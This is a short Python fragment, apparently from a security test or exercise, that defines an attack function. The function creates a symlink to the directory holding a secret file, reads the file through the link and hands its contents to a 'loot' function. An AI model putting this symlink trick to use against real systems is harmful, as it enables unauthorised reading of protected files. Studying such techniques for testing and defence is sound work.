@at_once
def attack():
    os.symlink(os.path.dirname(SECRET), 'door')
    loot(open('door/' + os.path.basename(SECRET)).read())
